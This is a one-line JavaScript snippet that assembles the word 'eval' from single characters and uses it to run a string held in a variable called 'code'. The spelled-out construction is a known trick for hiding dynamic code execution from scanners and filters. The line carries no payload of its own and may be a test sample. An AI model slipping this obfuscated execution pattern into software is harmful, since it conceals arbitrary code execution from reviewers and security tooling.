globalThis[['e', 'v', 'a', 'l'].join('')](code);
